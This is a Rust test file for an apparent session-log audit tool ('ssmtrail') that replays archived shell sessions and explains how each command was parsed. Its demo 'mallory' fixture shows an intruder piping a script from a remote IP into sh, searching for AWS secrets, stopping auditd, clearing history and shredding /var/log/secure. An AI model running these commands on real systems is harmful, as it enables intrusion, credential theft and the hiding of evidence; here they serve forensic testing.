//! One session, as text, commands, bytes or reasons.

use expect_test::expect;

use crate::world::World;

#[test]
fn a_session_is_shown_as_a_person_saw_it() {
    let world = World::with_demo();
    world.run("show mallory").is(expect![[r#"
        sh-5.2$ whoami
        ssm-user
        sh-5.2$ sudo -i
        [root@ip-10-0-3-7 ~]# curl -s http://198.51.100.7/install.sh | sh
        fetching payload
        installed to /usr/local/bin/.cache
        [root@ip-10-0-3-7 ~]# grep -r aws_secret /home
        /home/app/.env:aws_secret=[masked:variable:4fc51f]
        caf� menu.txt: binary �� file matches
        [root@ip-10-0-3-7 ~]# systemctl stop auditd
        [root@ip-10-0-3-7 ~]# history -c
        [root@ip-10-0-3-7 ~]# shred -u /var/log/secure
        ! note: damaged: bytes that are no UTF-8
        ! note: cut: the footer is missing, so the end may be
        ! note: 1 secret is masked; --reveal shows it
    "#]]);
}

#[test]
fn a_command_is_explained_by_its_evidence_and_its_bytes() {
    let world = World::with_demo();
    world.run("show mallory --explain=3").is(expect![[r#"
        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
            3  root       curl -s http://198.51.100.7/install.sh | sh
               prompt "[root@ip-10-0-3-7 ~]# ", line 4, bytes 331 to 412 of logs/mallory-0c0ffee0c0ffee001.log
               +1.0 a prompt of a known shape
               +3.0 between the line editor's own marks
               +1.0 a new prompt, after a command that opens one
               +1.0 edited in place
               = 99.4 % sure
               runner-up: "~]# curl -s http://198.51.100.7/install.sh | sh" behind the prompt "[root@ip-10-0-3-7 "
               | [root@ip-10-0-3-7 ~]# curl -s http://198.51.100.7/install.sj\x08\x1b[Kh | sh\x0d\x0d
               | \x1b[?2004l
    "#]]);
    world.run("show mallory --explain=70").is(expect![[r#"
        ! ssmtrail: the session has no command 70
        ! hint: its commands are 1 to 7
        [exit 2]
    "#]]);
}

#[test]
fn raw_is_byte_for_byte_in_a_pipe_and_harmless_on_a_terminal() {
    let world = World::new();
    let bytes = b"Script started on 2026-11-20 10:00:00+00:00\nsh-4.2$ \x1b]0;x\x07id\r\r\n\nScript done on 2026-11-20 10:00:00+00:00\n";
    world.file("logs/alice-0123456789abcdef0.log", bytes);
    world.run("sync logs");
    let words = crate::world::words("show alice --raw");
    assert_eq!(world.parts(&words).0.as_bytes(), bytes);
    let (shown, _, _) = world.parts_as(&words, Some(100));
    assert!(shown.contains("\\x1b]0;x\\x07id") && !shown.contains('\x1b'));
}

#[test]
fn a_session_is_named_by_any_part_that_no_other_has() {
    let world = World::with_demo();
    world.run("show nobody").is(expect![[r#"
        ! ssmtrail: no session like nobody
        ! hint: `ssmtrail sessions` lists what the archive holds
        [exit 2]
    "#]]);
    world.run("show example.com").is(expect![[r#"
        ! ssmtrail: 3 sessions are like example.com
        ! hint: say more of the id; the first is bob.tanaka@example.com-rdob1n45o9axldi2ukjualhj8s
        [exit 2]
    "#]]);
}
